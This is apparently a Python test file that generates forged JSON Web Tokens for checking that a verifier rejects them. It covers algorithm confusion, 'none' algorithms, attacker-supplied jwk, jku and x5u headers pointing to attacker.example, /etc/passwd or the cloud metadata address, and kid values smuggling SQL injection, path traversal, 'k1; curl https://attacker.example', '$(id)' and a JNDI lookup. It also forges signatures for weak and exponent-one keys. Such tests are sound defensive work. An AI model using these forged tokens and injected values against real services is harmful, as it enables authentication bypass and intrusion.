"""Which key, and which algorithm: a token picks one of the issuer's keys by its ``kid``, and nothing else."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import hmac
import json
from collections.abc import Iterator
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID
from tests.attacks.entries import (
    ALGORITHM,
    GARBAGE,
    MALFORMED,
    OK,
    SIGNATURE,
    UNKNOWN,
    Entry,
    attacker_key,
    claims_text,
    good,
    with_signature,
)
from tests.contract.guards import EXPONENT_ONE, NOW, WEAK, signing_key
from tests.support.tokens import b64, private_key, public_jwk

_PUBLIC: Final = private_key().public_key()
_SPKI, _PKCS1 = PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1


def _secrets() -> dict[str, bytes]:
    """Return what an attacker can make of the public key, to use it as a secret."""
    pem = _PUBLIC.public_bytes(Encoding.PEM, _SPKI)
    jwk = public_jwk()
    plain = {
        "PEM": pem,
        "PEM without the last line break": pem.rstrip(b"\n"),
        "PEM with other line breaks": pem.replace(b"\n", b"\r\n"),
        "PEM of PKCS 1": _PUBLIC.public_bytes(Encoding.PEM, _PKCS1),
        "DER": _PUBLIC.public_bytes(Encoding.DER, _SPKI),
        "DER of PKCS 1": _PUBLIC.public_bytes(Encoding.DER, _PKCS1),
        "OpenSSH": _PUBLIC.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(jwk).encode("ascii"),
        "JWK without blanks": json.dumps(jwk, separators=(",", ":")).encode("ascii"),
        "JWK set": json.dumps({"keys": [jwk]}).encode("ascii"),
        "modulus": _PUBLIC.public_numbers().n.to_bytes(256, "big"),
        "modulus in base64url": jwk["n"].encode("ascii"),
    }
    return plain | {f"{name} in base64": base64.b64encode(secret) for name, secret in plain.items()}


def _hmac(alg: str, secret: bytes, kid: str = "k1", claimed: str | None = None) -> str:
    header = json.dumps({"alg": claimed or alg, "typ": "JWT", "kid": kid})
    signing_input = f"{b64(header)}.{b64(claims_text())}"
    digest = hmac.new(secret, signing_input.encode("ascii"), f"sha{alg[2:]}").digest()
    return f"{signing_input}.{b64(digest)}"


def _confusion() -> Iterator[Entry]:
    for name, secret in _secrets().items():
        yield Entry(f"HS256 with the public key as secret: {name}", ALGORITHM, _hmac("HS256", secret))
        yield Entry(f"HMAC that says RS256: {name}", SIGNATURE, _hmac("HS256", secret, claimed="RS256"))
    for alg in ("HS384", "HS512"):
        yield Entry(f"{alg} with the public key as secret", ALGORITHM, _hmac(alg, _secrets()["PEM"]))
    for kid in ("open", "es256", "ed", "nobody"):
        yield Entry(f"HS256 under the kid {kid}", ALGORITHM, _hmac("HS256", b"secret", kid))
    yield Entry("HS256 with an empty secret", ALGORITHM, _hmac("HS256", b""))
    for alg in ("none", "None", "NONE", "nOnE", "none ", " none", "none\x00", "null", "undefined"):
        yield Entry(f"alg {alg!r} with a signature", ALGORITHM, good(header={"alg": alg}))
        yield Entry(f"alg {alg!r} without", MALFORMED, good(header={"alg": alg}).rpartition(".")[0] + ".")
        yield Entry(
            f"alg {alg!r} with a signature of no use", ALGORITHM, f"{good(header={'alg': alg}).rpartition('.')[0]}.AA"
        )
    for alg in (
        "rs256",
        "RS256 ",
        "RS256\x00",
        "RS",
        "RS257",
        "RS1",
        "ES256K",
        "Ed448",
        "ES521",
        "dir",
        "RSA-OAEP",
        "A" * 4000,
    ):
        yield Entry(f"alg {alg[:20]!r}", ALGORITHM, good(header={"alg": alg}))
    for alg in ("RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA", "Ed25519"):
        yield Entry(
            f"alg {alg} for a key of RS256", ALGORITHM, good(header={"alg": alg}, key=signing_key("k1"), alg="RS256")
        )
    for kid, alg in (
        ("es256", "RS256"),
        ("es256", "ES384"),
        ("es384", "ES256"),
        ("ed", "ES256"),
        ("ed", "Ed25519"),
        ("open", "ES256"),
    ):
        yield Entry(f"alg {alg} for the key {kid}", ALGORITHM, with_signature(bytes(64), alg, kid))


def _embedded() -> Iterator[Entry]:
    key = attacker_key()
    jwk = public_jwk("attacker", kid="k1")
    for name, members in {
        "jwk": {"jwk": jwk},
        "jwk without a kid of its own": {"jwk": public_jwk("attacker", kid=None)},
        "jwk, critical": {"jwk": jwk, "crit": ["jwk"]},
        "jku": {"jku": "https://attacker.example/jwks"},
        "jku on the issuer's host": {"jku": "https://auth.mindpeeker.com@attacker.example/jwks"},
        "jku of a file": {"jku": "file:///etc/passwd"},
        "jku inside": {"jku": "http://169.254.169.254/latest/meta-data/"},
        "x5u": {"x5u": "https://attacker.example/cert.pem"},
        "x5c": {"x5c": [_certificate(key)]},
        "x5c that is none": {"x5c": ["AAAA"]},
        "x5t": {"x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA", "x5t#S256": "A" * 43},
    }.items():
        critical = "crit" in members
        for kid, code in (("k1", SIGNATURE), ("attacker", UNKNOWN), (None, SIGNATURE)):
            wanted = MALFORMED if critical else code
            yield Entry(f"{name}, kid {kid}", wanted, good(header=members, key=key, kid=kid))
    secret = {"kty": "oct", "k": b64("secret")}
    yield Entry("jwk with a secret", ALGORITHM, good(header={"alg": "HS256", "jwk": secret}))
    yield Entry("jwk of another, signed by the issuer", OK, good(header={"jwk": jwk}))


def _certificate(key: Any) -> str:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "auth.mindpeeker.com")])
    start = dt.datetime.fromtimestamp(NOW, dt.UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, start, start + dt.timedelta(days=365))
    return base64.b64encode(builder.sign(key, SHA256()).public_bytes(Encoding.DER)).decode("ascii")


def _key_ids() -> Iterator[Entry]:
    for name, kid in {
        "a path": "../../../../../../dev/null",
        "an absolute path": "/dev/null",
        "a Windows path": "..\\..\\k1",
        "SQL": "k1' OR '1'='1",
        "SQL, union": "x' UNION SELECT 'secret' --",
        "a command": "k1; curl https://attacker.example",
        "a shell expansion": "$(id)",
        "a template": "{{7*7}}${jndi:ldap://attacker.example}",
        "a format": "%s%s%s%n{0.__class__}",
        "a NUL": "k1\x00",
        "a NUL in front": "\x00k1",
        "a line break": "k1\r\nX-Injected: 1",
        "a blank": "k1 ",
        "another case": "K1",
        "full width": "\uff4b1",
        "a URL": "https://attacker.example/k1",
        "a data URL": "data:application/json,{}",
        "a name of Python": "__class__",
        "empty": "",
        "as long as allowed": "k" * 1024,
        "a pattern": "*",
        "a list": '["k1"]',
    }.items():
        yield Entry(f"kid: {name}", UNKNOWN, good(kid=kid))
        yield Entry(f"kid, by an attacker: {name}", UNKNOWN, good(kid=kid, key=attacker_key()))
    yield Entry("kid: a character too long", MALFORMED, good(kid="k" * 1025))
    yield Entry("kid: 100 kB", MALFORMED, good(kid="k" * 100_000))
    yield Entry("kid of another key of the issuer", SIGNATURE, good(kid="open"))
    yield Entry("kid of a key for encryption", UNKNOWN, good(kid="encryption", key=private_key("encryption")))


def _weak_keys() -> Iterator[Entry]:
    weak = private_key(WEAK, bits=1024)
    yield Entry("signed with 1,024 bits", UNKNOWN, good(kid=WEAK, key=weak))
    yield Entry("signed with 1,024 bits, no kid", SIGNATURE, good(kid=None, key=weak))
    # With an exponent of 1 the padded digest is its own signature: no private key is needed.
    signing_input = with_signature(b"x", kid=EXPONENT_ONE).rpartition(".")[0]
    digest = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(signing_input.encode()).digest()
    padded = b"\x00\x01" + b"\xff" * (256 - 3 - len(digest)) + b"\x00" + digest
    yield Entry("an exponent of 1", UNKNOWN, f"{signing_input}.{b64(padded)}")
    yield Entry("an exponent of 1, no signature", UNKNOWN, f"{signing_input}.{GARBAGE}")


ENTRIES: Final = (*_confusion(), *_embedded(), *_key_ids(), *_weak_keys())
